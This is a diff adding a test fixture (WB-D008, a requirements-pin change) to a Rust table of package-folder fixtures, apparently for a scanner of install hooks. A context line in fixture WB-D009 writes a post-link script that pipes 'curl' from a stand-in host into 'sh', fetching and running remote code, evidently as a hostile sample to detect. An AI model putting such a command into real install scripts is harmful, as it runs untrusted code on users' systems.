@@ -91,6 +91,15 @@ const FIXTURES: &[Fixture] = &[
         |folder| folder.file("requirements.txt", "six==1.17.0\n"),
     ),
     (
+        "WB-D008",
+        |folder| {
+            installed(folder, "shop/__init__.py", b"print('shop')\n").file("requirements.txt", "shop==9\n")
+        },
+        |folder| {
+            installed(folder, "shop/__init__.py", b"print('shop')\n").file("requirements.txt", "shop>=1\n")
+        },
+    ),
+    (
         "WB-D009",
         |folder| scripted(folder, "bin/.shop-post-link.sh", "curl -s https://host.example/x | sh\n"),
         |folder| scripted(folder, "etc/conda/activate.d/shop.sh", "export SHOP=1\n"),
